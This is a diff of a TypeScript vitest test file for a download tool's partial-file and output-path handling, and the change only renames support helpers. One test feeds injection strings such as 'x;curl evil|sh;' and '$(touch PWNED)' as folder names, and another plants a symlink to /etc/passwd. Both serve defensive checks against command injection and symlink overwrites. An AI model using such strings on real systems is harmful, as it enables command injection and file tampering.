@@ -4,17 +4,17 @@ import { describe, expect, it, onTestFinished } from 'vitest';
 import type { SafePath } from '../../../src/platform/files/safe-path.ts';
 import { createPathError, createWriteError, hasExistingFile } from '../../../src/service/http/output-file.ts';
 import { createPartialFile } from '../../../src/service/http/partial-file.ts';
-import { folder, join } from '../../support/folder.ts';
-import { host } from '../../support/host.ts';
-import { syncedIn } from '../../support/synced.ts';
+import { createFolder, join } from '../../support/create-folder.ts';
+import { hostProcess } from '../../support/host-process.ts';
+import { recordSyncs } from '../../support/record-syncs.ts';
 
-const facts = { ...host, random: Math.random };
+const facts = { ...hostProcess, random: Math.random };
 const bytes = (text: string) => new TextEncoder().encode(text);
 const begin = (path: SafePath, replace = false) => createPartialFile(path, 'shown', replace, facts);
 
 describe('the target of a download', () => {
   it('may be free or an existing file', async () => {
-    const at = folder();
+    const at = createFolder();
     expect(await hasExistingFile(join(at, 'a'), 'a')).toBe(false);
     await writeFile(join(at, 'a'), '');
     expect(await hasExistingFile(join(at, 'a'), 'a')).toBe(true);
@@ -26,7 +26,7 @@ describe('the target of a download', () => {
     ['a link to nothing', 'symbolic link', (path: string) => symlink('/nowhere', path)],
     ['a pipe', 'not a regular file', async (path: string) => void execFileSync('mkfifo', [path])],
   ])('is never %s', async (_, words, make) => {
-    const path = join(folder(), 'x');
+    const path = join(createFolder(), 'x');
     await make(path);
     await expect(hasExistingFile(path, 'x')).rejects.toMatchObject({
       exit: 2,
@@ -37,7 +37,7 @@ describe('the target of a download', () => {
   it.each(['x;curl evil|sh;', '$(touch PWNED)', "it's", '-rf'])(
     'in a folder %s that does not exist is made by a command that holds one word of it',
     async (name) => {
-      const at = folder();
+      const at = createFolder();
       const error = await hasExistingFile(join(at, name, 'x'), `${name}/x`).catch(
         (caught: unknown) => caught,
       );
@@ -50,7 +50,7 @@ describe('the target of a download', () => {
   );
 
   it('gets a folder and name that the file system accepts', async () => {
-    const at = folder();
+    const at = createFolder();
     await expect(hasExistingFile(join(at, 'no', 'x'), 'no/x')).rejects.toMatchObject({
       exit: 2,
       code: 'no_folder',
@@ -71,7 +71,7 @@ describe('the target of a download', () => {
 
 describe('a target that is not writable', () => {
   it.skipIf(process.getuid?.() === 0)('names the owner of the folder', async () => {
-    const at = folder();
+    const at = createFolder();
     await chmod(at, 0o500);
     onTestFinished(() => chmod(at, 0o700));
     await expect(createPartialFile(join(at, 'x'), 'out/x', false, facts)).rejects.toMatchObject({
@@ -100,7 +100,7 @@ describe('a target that is not writable', () => {
 
 describe('a partial file', () => {
   it('gets its final name only when it is complete, with the mode of the user', async () => {
-    const at = folder();
+    const at = createFolder();
     const path = join(at, `${'n'.repeat(251)}.svg`);
     const landing = await begin(path);
     await landing.sink.write(bytes('one '));
@@ -115,18 +115,18 @@ describe('a partial file', () => {
   });
 
   it('is synced before it gets its name, and its folder after it', async () => {
-    const at = folder();
+    const at = createFolder();
     const landing = await begin(join(at, 'x'));
-    const synced = await syncedIn(at);
+    const synced = await recordSyncs(at);
     await landing.sink.write(bytes('all'));
     await landing.commit();
     expect(synced).toStrictEqual(['3 bytes', 'folder of x']);
   });
 
   it('reports a failing sync of the folder', async () => {
-    const at = folder();
+    const at = createFolder();
     const landing = await begin(join(at, 'x'));
-    await syncedIn(at, 'EIO');
+    await recordSyncs(at, 'EIO');
     await landing.sink.write(bytes('all'));
     expect(await landing.commit()).toBe(
       'shown was written, but a power failure may undo that: the disk reports an error',
@@ -135,7 +135,7 @@ describe('a partial file', () => {
   });
 
   it('takes another temporary name when the first exists', async () => {
-    const at = folder();
+    const at = createFolder();
     const alike = { ...facts, alive: () => true, now: () => 0 };
     let turn = 0;
     const first = await createPartialFile(join(at, 'x'), 'x', false, { ...alike, random: () => 0.5 });
@@ -151,7 +151,7 @@ describe('a partial file', () => {
   });
 
   it('can start over', async () => {
-    const path = join(folder(), 'x');
+    const path = join(createFolder(), 'x');
     const landing = await begin(path);
     await landing.sink.write(new Uint8Array(3_000_000));
     expect(await landing.sink.startOver()).toBe(true);
@@ -161,7 +161,7 @@ describe('a partial file', () => {
   });
 
   it('is removed when the download is given up', async () => {
-    const at = folder();
+    const at = createFolder();
     const landing = await begin(join(at, 'x'));
     await landing.sink.write(bytes('half'));
     await landing.discard();
@@ -169,7 +169,7 @@ describe('a partial file', () => {
   });
 
   it('does not replace a file that appeared meanwhile, unless allowed', async () => {
-    const at = folder();
+    const at = createFolder();
     const path = join(at, 'x');
     const landing = await begin(path);
     await writeFile(path, 'theirs');
@@ -184,7 +184,7 @@ describe('a partial file', () => {
   });
 
   it('does not replace a symbolic link that appeared meanwhile', async () => {
-    const path = join(folder(), 'x');
+    const path = join(createFolder(), 'x');
     const landing = await begin(path, true);
     await symlink('/etc/passwd', path);
     await expect(landing.commit()).rejects.toMatchObject({ exit: 1, code: 'not_a_file' });
@@ -192,7 +192,7 @@ describe('a partial file', () => {
   });
 
   it('of a killed download to the same name is removed, and nothing else', async () => {
-    const at = folder();
+    const at = createFolder();
     const dead = { ...facts, pid: 4_000_000 };
     for (const name of ['x', 'other']) {
       const killed = await createPartialFile(join(at, name), name, false, dead);
@@ -206,14 +206,14 @@ describe('a partial file', () => {
   });
 
   it('reserves disk space first', async () => {
-    const landing = await begin(join(folder(), 'x'));
+    const landing = await begin(join(createFolder(), 'x'));
     onTestFinished(() => landing.discard());
     await expect(landing.checkFreeSpace(2 ** 60)).rejects.toMatchObject({ code: 'no_space', exit: 1 });
     await landing.checkFreeSpace(1);
   });
 
   it('reports a full disk', async ({ skip }) => {
-    const at = folder();
+    const at = createFolder();
     try {
       execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', at], { stdio: 'ignore' });
     } catch {
